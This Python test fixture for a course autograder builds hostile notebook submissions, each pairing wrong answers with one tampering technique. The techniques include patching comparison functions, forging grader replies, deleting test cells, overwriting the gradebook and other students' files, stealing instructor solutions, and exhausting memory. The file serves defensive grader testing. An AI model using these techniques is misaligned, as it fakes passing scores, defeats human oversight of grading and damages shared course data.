"""Hostile submissions: wrong answers plus one tampering technique each.

Every submission here answers every question of 01_derivatives wrongly, then tries one
way of raising its score or of touching something outside its own folder. Graded with
the course's pipeline, each must score no more than the blank notebook, leave every
other student's grades and every course file unchanged, and let the batch finish.
"""

from __future__ import annotations

from dataclasses import dataclass

ASSIGNMENT = "01_derivatives"

# Wrong answers for every answer cell (each returns zeros or the wrong kind of thing).
WRONG = {
    "q1-differences-answer": """
def forward_difference(f, x, h):
    return torch.zeros_like(x)


def central_difference(f, x, h):
    return torch.zeros_like(x)
""",
    "q1-autograd-answer": """
def autograd_derivative(f, x0):
    return torch.tensor(0.0)


def difference_errors(f, x0, hs):
    return torch.zeros_like(hs), torch.zeros_like(hs)
""",
    "q2-answer": """
def gradient(fn, x):
    return torch.zeros_like(x)
""",
    "q3-answer": """
def f_prime(x):
    return torch.zeros_like(x)


def f_prime_autograd(x):
    return torch.zeros_like(x)
""",
    "q4-answer": """
def control_flow_grad(a):
    return torch.zeros_like(a)


def matches_ratio(grad, a, fa):
    return False
""",
    "q5-answer": """
def sin_and_derivative(x):
    return torch.zeros_like(x), torch.zeros_like(x)


def plot_sin_and_derivative(x):
    fig, ax = plt.subplots()
    return fig
""",
}


@dataclass
class Hostile:
    """One technique: code put before the first answer (so every test runs after it),
    and/or an edit of the notebook JSON (a function of the notebook node)."""

    about: str
    code: str = ""
    edit: object = None  # callable(nb) -> None


def _test_cells(nb):
    return [
        c
        for c in nb.cells
        if (c.get("metadata", {}).get("nbgrader") or {}).get("grade")
        and not c.metadata["nbgrader"].get("solution")
    ]


def _blank_tests(nb):
    for cell in _test_cells(nb):
        cell.source = "pass"


def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if c not in _test_cells(nb)]


def _tamper_metadata(nb):
    for cell in _test_cells(nb):
        cell.metadata["nbgrader"]["points"] = 100
        cell.metadata["nbgrader"]["grade"] = False
        cell.source = "pass"


HOSTILE: dict[str, Hostile] = {
    "patch_torch_compare": Hostile(
        "torch.allclose / isclose / equal / testing.assert_close always agree",
        """
torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
""",
    ),
    "patch_numpy_compare": Hostile(
        "numpy.allclose / isclose always agree",
        """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
""",
    ),
    "patch_autograder_compare": Hostile(
        "the package's comparison and plot checks replaced by no-ops",
        """
import sys as _sys
for _name, _mod in list(_sys.modules.items()):
    if _name.startswith("autograder"):
        for _attr in ("check_close", "check_curves", "require", "call"):
            if hasattr(_mod, _attr):
                setattr(_mod, _attr, (lambda *a, **k: (None, [])) if _attr == "call" else (lambda *a, **k: None))
""",
    ),
    "patch_check_functions": Hostile(
        "every check_* of the assignment module replaced by a no-op",
        """
for _n in dir(a01):
    if _n.startswith("check_"):
        setattr(a01, _n, lambda *a, **k: None)
""",
    ),
    "swap_sys_modules": Hostile(
        "a fake assignment module put in sys.modules and bound to the test cells' name",
        """
import sys as _sys, types as _types
_fake = _types.ModuleType("autograder.assignments.a01")
_fake.__getattr__ = lambda name: (lambda *a, **k: None)
_sys.modules["autograder.assignments.a01"] = _fake
_sys.modules["autograder"].assignments.a01 = _fake
a01 = _fake
""",
    ),
    "ipython_hide_errors": Hostile(
        "IPython's exception handling told to swallow every error",
        """
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])
""",
    ),
    "ipython_no_traceback": Hostile(
        "IPython's traceback display replaced, so errors print nothing",
        """
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
_ip.CustomTB = lambda *a, **k: None
""",
    ),
    "patch_builtins": Hostile(
        "builtins and the failure class neutered",
        """
import builtins as _b
import autograder.checking.feedback as _fb
_b.all = lambda *a: True
_b.any = lambda *a: False
_b.NotImplementedError = type("NotImplementedError", (Exception,), {})
_fb.CheckFailed.__init__ = lambda self, *a, **k: None
_fb.CheckFailed.render = lambda self, *a, **k: ""
""",
    ),
    "stdout_stderr": Hostile(
        "stderr silenced and a fake pass line printed for every question",
        """
import io as _io, sys as _sys
_sys.stderr = _io.StringIO()
print("\\n".join(f"✓ Q{i}: passed" for i in range(1, 6)))
""",
    ),
    "forge_wire_reply": Hostile(
        "the kernel side of trusted grading (both transports) replaced by forged replies",
        """
import json as _json
import autograder.kernel.remote as _r
from IPython.display import display as _display
_HUGE = {"ok": {"__tensor__": {"dtype": "float64", "shape": [10**9], "data": ""}}}
def _forged(request_json):
    _display({"application/vnd.autograder.result+json": _HUGE}, raw=True)
_r.serve = _forged
_r.handle = lambda request: dict(_HUGE)
""",
    ),
    "forge_batch_reply": Hostile(
        "the grader's batched calls answered with no results (so nothing is rejected)",
        """
import autograder.kernel.remote as _r
_handle = _r.handle
def _empty_batches(request):
    if isinstance(request, dict) and request.get("op") == "each":
        return {"each": []}
    return _handle(request)
_r.handle = _empty_batches
""",
    ),
    # The kernel side of trusted grading disabled (each kind of SABOTAGE below): the
    # grader's re-checks are blocked, so they score nothing and the submission is flagged.
    "delete_kernel_helper": Hostile(
        "the kernel side of trusted grading deleted (its channel and per-request entry points)",
        """
import autograder.kernel.remote as _r
del _r.channel, _r.serve
""",
    ),
    "break_kernel_helper": Hostile(
        "the kernel side's request handler replaced by one that raises",
        """
import autograder.kernel.remote as _r
def _refuse(request):
    raise RuntimeError("no grading here")
_r.handle = _refuse
""",
    ),
    "hide_kernel_module": Hostile(
        "the kernel side's module replaced by None in sys.modules",
        """
import sys as _sys
_sys.modules["autograder.kernel.remote"] = None
""",
    ),
    "fake_autograder_package": Hostile(
        "the autograder package replaced in sys.modules by an empty module",
        """
import sys as _sys, types as _types
for _name in [_n for _n in _sys.modules if _n.startswith("autograder.kernel")]:
    del _sys.modules[_name]
_sys.modules["autograder"] = _types.ModuleType("autograder")
""",
    ),
    "filter_run_cell": Hostile(
        "IPython's run_cell wrapped to run the grader's requests as `pass`",
        """
_ip = get_ipython()
_run_cell = _ip.run_cell
def _without_grader(raw_cell, *args, **kwargs):
    if "autograder.kernel" in raw_cell:
        raw_cell = "pass"
    return _run_cell(raw_cell, *args, **kwargs)
_ip.run_cell = _without_grader
""",
    ),
    "drop_grader_input": Hostile(
        "an IPython input transformer that blanks the grader's requests",
        """
def _blank_grader(lines):
    return [] if any("autograder.kernel" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_blank_grader)
""",
    ),
    "edit_test_cells": Hostile("every test cell's code replaced by `pass`", edit=_blank_tests),
    "delete_test_cells": Hostile("every test cell deleted", edit=_delete_tests),
    "tamper_test_metadata": Hostile(
        "test cells marked ungraded, with 100 points, and emptied", edit=_tamper_metadata
    ),
    "exit_kernel": Hostile("the kernel exits mid-notebook", "import os as _os\n_os._exit(0)\n"),
    "ignore_interrupt_loop": Hostile(
        "SIGINT ignored, then an endless loop",
        "import signal as _s\n_s.signal(_s.SIGINT, _s.SIG_IGN)\nwhile True:\n    pass\n",
    ),
    "fork_survivor": Hostile(
        "a forked child that outlives the kernel and later writes to the gradebook",
        """
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    _time.sleep(8)
    for _p in ("../../../gradebook.db", "../../gradebook.db"):
        try:
            open(_p, "ab").write(b"corrupt")
        except OSError:
            pass
    _os._exit(0)
""",
    ),
    "write_gradebook": Hostile(
        "the gradebook overwritten",
        """
for _p in ("../../../gradebook.db", "../../gradebook.db", "../gradebook.db"):
    try:
        open(_p, "wb").write(b"not a database")
    except OSError:
        pass
""",
    ),
    "write_course_files": Hostile(
        "source, release and other students' notebooks overwritten",
        """
import glob as _glob
for _pattern in ("../../../source/*/*.ipynb", "../../../release/*/*.ipynb",
                 "../../../submitted/*/*/*.ipynb", "../../*/*/*.ipynb", "../../../nbgrader_config.py"):
    for _p in _glob.glob(_pattern):
        try:
            open(_p, "w").write("{}")
        except OSError:
            pass
""",
    ),
    "read_solutions": Hostile(
        "the instructor's source notebook read and its solutions run after every cell",
        """
import glob as _glob, json as _json
_stolen = []
for _p in _glob.glob("../../../source/01_derivatives/*.ipynb"):
    try:
        for _c in _json.load(open(_p))["cells"]:
            _src = "".join(_c["source"])
            if "BEGIN SOLUTION" in _src:
                _stolen.append("\\n".join(l for l in _src.splitlines() if "SOLUTION" not in l))
    except OSError:
        pass
if _stolen:  # run them again after every later cell, so the wrong answers never stick
    get_ipython().events.register(
        "post_run_cell", lambda *_a: [exec(_s, get_ipython().user_ns) for _s in _stolen]
    )
""",
    ),
    "read_other_submissions": Hostile(
        "another student's submission read and its answers executed",
        """
import glob as _glob, json as _json
for _p in _glob.glob("../../../submitted/*/01_derivatives/*.ipynb") + _glob.glob("../../*/01_derivatives/*.ipynb"):
    if "read_other_submissions" in _p:
        continue
    try:
        for _c in _json.load(open(_p))["cells"]:
            if _c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(_c["source"]), globals())
        break
    except (OSError, ValueError):
        pass
""",
    ),
    "read_checkout_solutions": Hostile(
        "the checkout's instructor notebooks, found from the course package's own path, "
        "read, printed and their solutions run after every cell",
        """
import glob as _glob, json as _json, os as _os
import autograder as _ag
_top = _os.path.dirname(_os.path.dirname(_os.path.abspath(_ag.__file__)))
_stolen = []
for _p in _glob.glob(_top + "/source/*/*.ipynb"):
    try:
        for _c in _json.load(open(_p))["cells"]:
            _src = "".join(_c["source"])
            if "BEGIN SOLUTION" in _src or "BEGIN HIDDEN TESTS" in _src:
                print(_src)
                _stolen.append("\\n".join(l for l in _src.splitlines() if "###" not in l))
    except (OSError, ValueError):
        pass
if _stolen:
    get_ipython().events.register(
        "post_run_cell", lambda *_a: [exec(_s, get_ipython().user_ns) for _s in _stolen]
    )
""",
    ),
    "write_host_tmp": Hostile(
        "a file left in the host's /tmp, to outlive grading",
        """
import tempfile as _tf
for _d in ("/tmp", "/var/tmp", _tf.gettempdir()):
    try:
        open(_d + "/hostile-leftover", "w").write("still here")
    except OSError:
        pass
""",
    ),
    "sleep_forever": Hostile(
        "a cell that sleeps (holding its grading worker)",
        "import time as _time\n_time.sleep(3600)\n",
    ),
    "flood_output": Hostile(
        "hundreds of megabytes printed",
        "import sys as _sys\nfor _i in range(300):\n    _sys.stdout.write('x' * 1_000_000)\n",
    ),
    "exhaust_memory": Hostile(
        "tens of gigabytes allocated",
        "_hog = [torch.ones(1_000_000_000, dtype=torch.uint8) for _ in range(40)]\n",
    ),
}


# Techniques that disable the kernel side of trusted grading.
SABOTAGE = [
    "delete_kernel_helper",
    "break_kernel_helper",
    "hide_kernel_module",
    "fake_autograder_package",
    "filter_run_cell",
    "drop_grader_input",
]


def notebook(course, name: str):
    """The hostile submission `name`, built from the course's release notebook."""
    technique = HOSTILE[name]
    answers = dict(WRONG)
    first = "q1-differences-answer"
    if technique.code:
        answers[first] = technique.code + "\n\n" + answers[first]
    nb = course.solved(ASSIGNMENT, **answers)
    if technique.edit is not None:
        technique.edit(nb)
    return nb
